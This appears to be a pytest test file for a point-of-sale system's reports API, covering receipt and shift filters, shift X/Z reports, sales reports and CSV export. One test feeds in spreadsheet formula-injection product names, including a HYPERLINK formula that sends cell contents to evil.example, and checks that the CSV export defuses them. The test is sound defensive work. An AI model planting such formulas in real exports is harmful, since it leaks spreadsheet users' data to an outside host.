"""Issue 15, the reports API: shifts and receipts by period and more, one shift's Z (or X)
figures, the sales report (JSON and CSV) and its figures against the receipts it adds up."""

from __future__ import annotations

import csv
import io
import json
from collections import defaultdict
from datetime import datetime, timedelta
from decimal import Decimal
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from minipos.auth.principal import Role
from minipos.checkout import routes as checkout_routes
from support import Api, Station, open_station, register

RIGA = ZoneInfo("Europe/Riga")
CASH, CARD = 1, 2


def sale(
    station: Station,
    request_id: str,
    rows: list[tuple[str, str, int, str]],
    *,
    mode: int = 1,
    cashier: int | None = None,
    discount: str = "0",
    payments: list[dict[str, Any]] | None = None,
) -> dict[str, Any]:
    """A walk-in sale (or refund) of free-text rows ``(text, price, tax, quantity)``."""
    body: dict[str, Any] = {
        "request_id": request_id,
        "mode": mode,
        "rows": [
            {"text": text, "price": price, "tax": tax, "quantity": quantity}
            for text, price, tax, quantity in rows
        ],
        "payments": payments or [{"method_id": CASH}],
    }
    if cashier is not None:
        body["cashier_id"] = cashier
        body["cashier_name"] = f"Kasieris {cashier}"
    if discount != "0":
        body |= {"discount": discount, "discount_type": "amount"}
    response = station.post(f"/api/stations/{station.id}/receipts", body)
    assert response.status_code in (200, 201), response.text
    receipt: dict[str, Any] = response.json()
    return receipt


def exact(value: Any) -> Decimal:
    """A JSON number as the server wrote it (the test client reads floats)."""
    return Decimal(str(value))


def decimals(response: Any) -> Any:
    """A JSON answer with its numbers as Decimal, exactly as written."""
    return json.loads(response.text, parse_float=Decimal)


def at(monkeypatch: pytest.MonkeyPatch, moment: datetime) -> None:
    """Sales from now on are printed at ``moment`` (the checkout's clock)."""
    us = int(moment.timestamp() * 1_000_000)
    monkeypatch.setattr(checkout_routes, "now_us", lambda: us)


# --- receipts and shifts ------------------------------------------------------------------------


def test_receipts_filter_by_period_employee_amount_and_method(
    api: Api, monkeypatch: pytest.MonkeyPatch
) -> None:
    station = open_station(api)
    at(monkeypatch, datetime(2026, 11, 2, 23, 30, tzinfo=RIGA))
    first = sale(station, "a", [("Kafija", "1.50", 0, "2")], cashier=7)
    at(monkeypatch, datetime(2026, 11, 3, 0, 30, tzinfo=RIGA))
    second = sale(
        station, "b", [("Maize", "12.00", 1, "1")], payments=[{"method_id": CARD}], cashier=8
    )
    admin = api.as_(Role.ADMIN)

    def ids(query: str) -> list[int]:
        response = admin.get(f"/api/receipts?{query}")
        assert response.status_code == 200, response.text
        assert response.headers["X-Total-Count"] == str(len(response.json()))
        return [r["id"] for r in response.json()]

    one, two = first["id"], second["id"]
    assert ids("from=2026-11-03") == [two]
    assert ids("to=2026-11-02") == [one]  # a plain date takes in the whole day
    assert ids("from=2026-11-02T23:00&to=2026-11-03T00:00") == [one]
    assert ids("from=2026-11-02T22:00:00%2B00:00") == [two]  # with an offset: as given
    assert ids("cashier_id=7") == [one]
    assert ids("amount_min=3&amount_max=3") == [one]
    assert ids("amount_min=3.01") == [two]
    assert ids(f"payment_method={CARD}") == [two]
    assert ids("mode=1") == [one, two]

    found = admin.get(f"/api/receipts/{two}")
    assert found.status_code == 200
    assert found.json() == admin.get(f"/api/receipts?document_id={second['document_id']}").json()[0]
    assert admin.get("/api/receipts/999999").status_code == 404
    other = register(api, "Kase 2", "02")
    assert other.get(f"/api/receipts/{two}").status_code == 404  # another station's
    assert station.get(f"/api/receipts/{two}").status_code == 200

    for query, name in (
        ("from=yesterday", "from"),
        ("to=2026-13-01", "to"),
        ("amount_min=1.234", "amount_min"),
        ("amount_max=-1", "amount_max"),
        ("amount_min=NaN", "amount_min"),
        ("from=0001-01-01", "from"),
        ("amount_min=abc", "amount_min"),
        ("payment_method=x", "payment_method"),
        ("cashier_id=-1", "cashier_id"),
        ("mode=9", "mode"),
    ):
        refused = admin.get(f"/api/receipts?{query}")
        assert refused.status_code == 400, (query, refused.text)
        assert name in refused.json(), (query, refused.text)


def test_a_shift_reads_back_its_x_figures_then_its_frozen_z(
    api: Api, monkeypatch: pytest.MonkeyPatch
) -> None:
    station = open_station(api)
    sale(station, "a", [("Kafija", "1.50", 0, "2"), ("Maize", "2.35", 1, "1")])
    [shift] = api.as_(Role.ADMIN).get("/api/shifts").json()
    admin = api.as_(Role.ADMIN)
    opened = admin.get(f"/api/shifts/{shift['id']}").json()
    x_report = station.get(f"/api/stations/{station.id}/shift/x-report").json()
    assert opened["report_type"] == "X"
    assert opened["report"] == x_report["report"]
    closed = station.close_shift().json()
    read = admin.get(f"/api/shifts/{shift['id']}").json()
    assert read["report_type"] == "Z"
    assert read["report"] == closed["report"]
    assert {k: v for k, v in read.items() if k not in ("report", "report_type")} == {
        k: v for k, v in closed.items() if k != "report"
    }
    assert exact(read["report"]["turnover"]) == Decimal("5.35")
    assert station.get(f"/api/shifts/{shift['id']}").status_code == 200
    other = register(api, "Kase 2", "02")
    assert other.get(f"/api/shifts/{shift['id']}").status_code == 404
    assert admin.get("/api/shifts/424242").status_code == 404


def test_shifts_filter_by_period_and_state(api: Api, monkeypatch: pytest.MonkeyPatch) -> None:
    station = open_station(api)
    station.close_shift()
    assert station.open_shift().status_code == 200
    admin = api.as_(Role.ADMIN)
    first, second = admin.get("/api/shifts").json()
    assert [s["id"] for s in admin.get("/api/shifts?open=true").json()] == [second["id"]]
    assert [s["id"] for s in admin.get("/api/shifts?open=false").json()] == [first["id"]]
    today = datetime.now(RIGA).date()
    assert len(admin.get(f"/api/shifts?from={today}&to={today}").json()) == 2
    tomorrow = today + timedelta(days=1)
    assert [s["id"] for s in admin.get(f"/api/shifts?from={tomorrow}").json()] == [second["id"]]
    assert admin.get(f"/api/shifts?to={today - timedelta(days=1)}").json() == []
    assert (
        admin.get(f"/api/shifts?station_id={station.id}&open=true").json()[0]["id"]
        == (second["id"])
    )
    for query in ("from=x", "to=2026-02-30", "open=maybe"):
        refused = admin.get(f"/api/shifts?{query}")
        assert refused.status_code == 400, refused.text
        assert query.split("=")[0] in refused.json()


# --- the sales report ---------------------------------------------------------------------------


def test_sales_by_day_in_shop_time_json_and_csv(api: Api, monkeypatch: pytest.MonkeyPatch) -> None:
    station = open_station(api)
    # 23:30 and 00:30 shop time are two days; UTC has them on one.
    at(monkeypatch, datetime(2026, 11, 2, 23, 30, tzinfo=RIGA))
    sale(station, "a", [("Kafija", "1.50", 0, "2")], discount="0.50")
    at(monkeypatch, datetime(2026, 11, 3, 0, 30, tzinfo=RIGA))
    sale(station, "b", [("Maize", "12.00", 1, "1")], payments=[{"method_id": CARD}])
    sale(station, "c", [("Maize", "12.00", 1, "1")], mode=3)
    admin = api.as_(Role.ADMIN)
    response = admin.get("/api/reports/sales?from=2026-11-01&to=2026-11-03&group_by=day")
    assert response.status_code == 200, response.text
    report = decimals(response)
    assert report["source"] == "aggregates"
    assert report["from"] == "2026-11-01T00:00:00+02:00"
    assert report["to"] == "2026-11-04T00:00:00+02:00"
    assert [g["key"] for g in report["groups"]] == ["2026-11-01", "2026-11-02", "2026-11-03"]
    empty, monday, tuesday = report["groups"]
    assert (empty["count"], empty["gross"]) == (0, 0)
    assert monday == {
        "count": 1,
        "refund_count": 0,
        "gross": 2.5,
        "net": Decimal("2.07"),
        "vat": Decimal("0.43"),
        "refunds": 0,
        "discounts": Decimal("0.5"),
        "quantity": None,
        "key": "2026-11-02",
        "label": "2026-11-02",
    }
    assert (tuesday["count"], tuesday["refund_count"], tuesday["gross"], tuesday["refunds"]) == (
        1,
        1,
        0,
        12,
    )
    assert report["total"]["gross"] == Decimal("2.5")

    as_csv = admin.get("/api/reports/sales?from=2026-11-01&to=2026-11-03&format=csv")
    assert as_csv.status_code == 200
    assert as_csv.headers["content-type"].startswith("text/csv")
    assert as_csv.content.startswith("\ufeff".encode())
    lines = list(csv.reader(io.StringIO(as_csv.content.decode("utf-8-sig")), delimiter=";"))
    assert lines[0][:5] == ["key", "label", "count", "refund_count", "gross"]
    assert lines[2][:9] == [
        "2026-11-02",
        "2026-11-02",
        "1",
        "0",
        "2,50",
        "2,07",
        "0,43",
        "0,00",
        "0,50",
    ]
    assert lines[-1][0] == "total"
    by_accept = admin.get(
        "/api/reports/sales?from=2026-11-01&to=2026-11-03", headers={"Accept": "text/csv"}
    )
    assert by_accept.content == as_csv.content


def test_a_name_a_spreadsheet_would_run_is_text_in_the_csv(api: Api) -> None:
    """Product names reached the manager's CSV as they were: ``=HYPERLINK(…)`` ran in Excel."""
    station = open_station(api)
    names = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+SUM(1+1)", "@cmd", "-2+3", "Maize"]
    sale(station, "a", [(name, "1.00", 0, "1") for name in names])
    admin = api.as_(Role.ADMIN)
    as_csv = admin.get("/api/reports/sales?group_by=product&format=csv")
    assert as_csv.status_code == 200, as_csv.text
    lines = list(csv.reader(io.StringIO(as_csv.content.decode("utf-8-sig")), delimiter=";"))
    labels = sorted(line[1] for line in lines[1:-1])
    assert labels == sorted(["'" + name for name in names[:4]] + ["Maize"])
    as_json = admin.get("/api/reports/sales?group_by=product").json()
    assert sorted(g["label"] for g in as_json["groups"]) == sorted(names)  # only the CSV quotes


def test_sales_by_hour_station_employee_method_tax_product(
    api: Api, monkeypatch: pytest.MonkeyPatch
) -> None:
    one = open_station(api)
    two = open_station(api, "Kase 2", "02")
    at(monkeypatch, datetime(2026, 11, 2, 10, 15, tzinfo=RIGA))
    sale(one, "a", [("Kafija", "1.50", 0, "2"), ("Maize", "2.00", 1, "1")], cashier=1)
    at(monkeypatch, datetime(2026, 11, 2, 11, 45, tzinfo=RIGA))
    sale(
        two,
        "b",
        [("Kafija", "1.50", 0, "1")],
        cashier=2,
        payments=[{"method_id": CASH, "amount": "5"}],
    )
    admin = api.as_(Role.ADMIN)

    def report(group_by: str, extra: str = "") -> dict[str, Any]:
        response = admin.get(
            f"/api/reports/sales?from=2026-11-02&to=2026-11-02&group_by={group_by}{extra}"
        )
        assert response.status_code == 200, response.text
        found: dict[str, Any] = decimals(response)
        return found

    hours = report("hour")
    assert len(hours["groups"]) == 24
    busy = {g["key"]: g["gross"] for g in hours["groups"] if g["count"]}
    assert busy == {"2026-11-02T10:00+02:00": 5, "2026-11-02T11:00+02:00": Decimal("1.5")}
    stations = report("station")["groups"]
    assert [(g["key"], g["label"], g["gross"]) for g in stations] == [
        (str(one.id), "Kase 1", 5),
        (str(two.id), "Kase 2", Decimal("1.5")),
    ]
    assert [g["gross"] for g in report("station", f"&station_id={two.id}")["groups"]] == [
        Decimal("1.5")
    ]
    employees = report("employee")["groups"]
    assert [(g["key"], g["label"]) for g in employees] == [("1", "Kasieris 1"), ("2", "Kasieris 2")]
    methods = report("payment_method")["groups"]
    # The change (3.50) went back out of the cash: 1.50 kept.
    assert [(g["label"], g["gross"], g["net"]) for g in methods] == [
        ("Skaidrā nauda", Decimal("6.5"), None)
    ]
    assert report("payment_method")["source"] == "aggregates"
    assert report("tax_group")["source"] == "aggregates"
    assert report("employee")["source"] == "receipts"
    taxes = report("tax_group")["groups"]
    assert [(g["key"], g["gross"], g["vat"]) for g in taxes] == [
        ("0:21", Decimal("4.5"), Decimal("0.78")),
        ("1:12", 2, Decimal("0.21")),
    ]
    products = report("product")["groups"]
    assert [(g["key"], g["gross"], g["quantity"]) for g in products] == [
        ("name:Kafija", Decimal("4.5"), 3),
        ("name:Maize", 2, 1),
    ]
    assert len(report("product", "&limit=1")["groups"]) == 1
    assert report("store")["groups"][0]["gross"] == Decimal("6.5")
    assert report("category")["total"]["gross"] == Decimal("6.5")
    # Not on whole hours: the receipts themselves answer, with the same figures.
    partial = admin.get("/api/reports/sales?from=2026-11-02T10:15&to=2026-11-02T11:44:59")
    assert decimals(partial)["source"] == "receipts"
    assert decimals(partial)["total"]["gross"] == 5


@pytest.mark.parametrize(
    ("query", "name"),
    [
        ("group_by=week", "group_by"),
        ("from=2026-11-31", "from"),
        ("to=soon", "to"),
        ("from=2026-11-05&to=2026-11-01", "to"),
        ("from=2024-01-01&to=2026-01-01", "to"),
        ("from=0001-01-01&to=0001-01-02", "from"),
        ("to=9999-12-31", "to"),
        ("format=xlsx", "format"),
        ("store=NOPE", "store"),
        ("limit=0", "limit"),
        ("station_id=x", "station_id"),
        ("fro=2026-11-01", "fro"),
    ],
)
def test_a_bad_report_parameter_is_a_400_naming_it(api: Api, query: str, name: str) -> None:
    response = api.as_(Role.ADMIN).get(f"/api/reports/sales?{query}")
    assert response.status_code == 400, response.text
    assert name in response.json(), response.text


# --- report figures = the sum of the receipts (property test, both databases) -------------------

ROWS = st.lists(
    st.tuples(
        st.sampled_from(["Kafija", "Maize", "Piens"]),
        st.decimals(min_value=Decimal("2.00"), max_value=Decimal("99.99"), places=2),
        st.sampled_from([0, 1, 2]),
        st.sampled_from(["1", "2", "0.5", "1.25"]),
    ),
    min_size=1,
    max_size=4,
)
SALES = st.lists(
    st.fixed_dictionaries(
        {
            "rows": ROWS,
            "station": st.integers(0, 1),
            "minutes": st.integers(0, 3 * 24 * 60),
            "refund": st.booleans(),
            "cashier": st.sampled_from([None, 1, 2]),
            "card": st.booleans(),
            "discount": st.sampled_from(["0", "0.10", "0.99"]),
        }
    ),
    min_size=1,
    max_size=8,
)


def test_report_figures_equal_the_sum_of_the_receipts(
    api: Api, monkeypatch: pytest.MonkeyPatch
) -> None:
    stations = [open_station(api), open_station(api, "Kase 2", "02")]
    admin = api.as_(Role.ADMIN)
    start = datetime(2026, 10, 24, 22, 0, tzinfo=RIGA)  # across the end of summer time
    counter = iter(range(10**6))

    @settings(
        max_examples=12,
        suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
    )
    @given(SALES)
    def check(sales: list[dict[str, Any]]) -> None:
        for s in sales:
            at(monkeypatch, start + timedelta(minutes=s["minutes"]))
            payments = [{"method_id": CARD if s["card"] else CASH}]
            sale(
                stations[s["station"]],
                f"p{next(counter)}",
                [(t, str(p), tax, q) for t, p, tax, q in s["rows"]],
                mode=3 if s["refund"] else 1,
                cashier=s["cashier"],
                discount=s["discount"],
                payments=payments,
            )
        receipts = admin.get("/api/receipts?from=2026-10-24&to=2026-10-28").json()
        for group_by in (
            "day", "hour", "station", "store", "employee", "payment_method", "tax_group",
            "product",
        ):  # fmt: skip
            for period in ("from=2026-10-24&to=2026-10-28", "from=2026-10-24T22:07&to=2026-10-28"):
                response = admin.get(f"/api/reports/sales?{period}&group_by={group_by}")
                assert response.status_code == 200, response.text
                _check_report(response.json(), receipts, group_by, period)

    check()


def _check_report(
    report: dict[str, Any], receipts: list[dict[str, Any]], group_by: str, period: str
) -> None:
    start = datetime.fromisoformat(report["from"])
    end = datetime.fromisoformat(report["to"])
    inside = [r for r in receipts if start <= datetime.fromisoformat(r["print_time"]) < end]
    expected: dict[str, dict[str, Decimal]] = defaultdict(lambda: defaultdict(Decimal))
    for r in inside:
        sign = -1 if r["mode"] == 3 else 1
        local = datetime.fromisoformat(r["print_time"]).astimezone(RIGA)
        parts: dict[str, Decimal]  # this receipt's gross in each of its groups
        if group_by == "tax_group":
            parts = defaultdict(Decimal)
            for x in r["rows"]:
                parts[f"{x['tax']}:{exact(x['tax_rate'])}"] += exact(x["amount"])
        elif group_by == "payment_method":
            parts = defaultdict(Decimal)
            change = exact(r["changed_amount"])
            for p in r["payments"]:
                kept = exact(p["amount"])
                if p["method"] == CASH:
                    kept, change = kept - min(change, kept), change - min(change, kept)
                parts[str(p["method"])] += kept
        elif group_by == "product":  # free-text rows: by name; VAT per row, not checked here
            parts = defaultdict(Decimal)
            for x in r["rows"]:
                parts[f"name:{x['product_name']}"] += exact(x["amount"])
                expected[f"name:{x['product_name']}"]["quantity"] += sign * exact(x["quantity"])
                expected[f"name:{x['product_name']}"]["discounts"] += sign * exact(
                    x["discount_amount"]
                )
        else:
            key = {
                "store": "",
                "day": local.date().isoformat(),
                "hour": local.replace(minute=0, second=0, microsecond=0).isoformat(
                    timespec="minutes"
                ),
                "station": str(r["station"]),
                "employee": "" if r["cashier"] is None else str(r["cashier"]),
            }[group_by]
            parts = {key: exact(r["bruto_amount"])}
            figures = expected[key]
            figures["net"] += sign * exact(r["neto_amount"])
            figures["vat"] += sign * exact(r["tax_amount"])
            figures["discounts"] += sign * sum(exact(x["discount_amount"]) for x in r["rows"])
        for key, gross in parts.items():
            figures = expected[key]
            figures["count" if sign > 0 else "refund_count"] += 1
            figures["gross"] += sign * gross
            figures["refunds"] += gross if sign < 0 else 0
    got = {g["key"]: g for g in report["groups"] if g["count"] or g["refund_count"]}
    assert set(got) == set(expected), (group_by, period)
    for key, figures in expected.items():
        for name, value in figures.items():
            assert exact(got[key][name]) == value, (group_by, period, key, name)
    if group_by == "tax_group":  # VAT per rate, as each receipt worked it out
        vat = sum(
            ((-1 if r["mode"] == 3 else 1) * exact(r["tax_amount"]) for r in inside), Decimal(0)
        )
        assert exact(report["total"]["vat"]) == vat, period
